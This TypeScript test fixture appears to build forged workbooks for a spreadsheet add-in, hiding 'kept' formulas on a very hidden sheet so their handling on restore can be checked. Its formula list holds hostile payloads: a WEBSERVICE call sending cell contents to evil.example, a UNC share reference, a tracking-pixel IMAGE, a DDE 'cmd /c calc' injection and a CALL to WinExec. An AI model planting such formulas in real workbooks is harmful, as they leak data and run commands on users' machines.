import type { CellValue } from '../../src/engine/core/cellValue';
import { cellKey } from '../../src/engine/formula/workbookModel';
import type { CellFile, SheetFile, WorkbookFile } from '../../src/file/workbookFile';
import { valuePrint } from '../../src/workbook/share/valuePrint';

/** What somebody wants written into A1, A2, A3 … of a sheet Model, which hold 1, 2, 3 …. */
export const forgedFormulas: readonly string[] = [
  'ROI.BASIC(300,100)',
  'ROI.BASIC(1,2)&WEBSERVICE("https://evil.example/collect?cells="&A1)',
  'ROI.OUTPUT("Profit")+\'\\\\evil.example\\share\\[prices.xlsx]Prices\'!B7',
  'WEBSERVICE("https://evil.example")',
  'HYPERLINK("https://evil.example","Click here")',
  'IMAGE("https://evil.example/pixel.png")',
  "cmd|'/c calc'!A0",
  'CALL("kernel32","WinExec","JCJ","calc",0)',
];

const HEADS = ['Kind', 'Place', 'Now', 'Formula', 'Print', 'References'];

export interface ForgedFormula {
  readonly text: string;
  readonly references?: readonly string[];
  /** Where it is to be written, if not beside the others. */
  readonly now?: string;
}

/** A workbook whose hidden sheet of kept formulas was written by hand, its prints right; `extra` cells stand on that sheet too. */
export function forgedShareCopy(formulas: readonly (string | ForgedFormula)[] = forgedFormulas, extra: readonly (readonly [number, number, CellFile])[] = []): WorkbookFile {
  const model = new Map(formulas.map((_, row): [number, CellFile] => [cellKey(row, 0), { value: row + 1 }]));
  const kept = new Map<number, CellFile>();
  const put = (row: number, column: number, value: CellValue, formula?: string): void => void kept.set(cellKey(row, column), formula === undefined ? { value } : { value, formula });
  put(0, 0, 'Kept for later');
  HEADS.forEach((head, column) => put(1, column, head));
  formulas.forEach((forged, index) => {
    const { text, references = [], now = `Model!A${index + 1}` } = typeof forged === 'string' ? { text: forged } : forged;
    put(index + 2, 0, 'values');
    put(index + 2, 1, now);
    put(index + 2, 2, 1, `ROWS(${now})`);
    put(index + 2, 3, text);
    put(index + 2, 4, valuePrint([[index + 1]]));
    references.forEach((reference, at) => put(index + 2, 5 + at, 1, `ROWS(${reference})`));
  });
  for (const [row, column, cell] of extra) kept.set(cellKey(row, column), cell);
  return {
    sheets: [
      { name: 'Model', cells: model },
      { name: 'Kept', cells: kept, visibility: 'veryHidden' },
    ],
    names: [{ name: 'ROI_KeptFormulas', sheet: 'Kept', formula: 'Kept!$A$1' }],
  };
}

/** A small model, and what somebody put where the add-in keeps its own texts. */
export function withSettings(cells: Readonly<Record<string, string | number>>, settings: Readonly<Record<string, string>>): WorkbookFile {
  const content = (value: string | number): CellFile => (typeof value === 'string' && value.startsWith('=') ? { value: null, formula: value.slice(1) } : { value });
  const sheet: SheetFile = {
    name: 'Model',
    cells: new Map(Object.entries(cells).map(([address, value]) => [cellKey(Number(address.slice(1)) - 1, address.charCodeAt(0) - 65), content(value)])),
  };
  return { sheets: [sheet], names: [], addinSettings: Object.fromEntries(Object.entries(settings).map(([name, text]) => [name, JSON.stringify(text)])) };
}
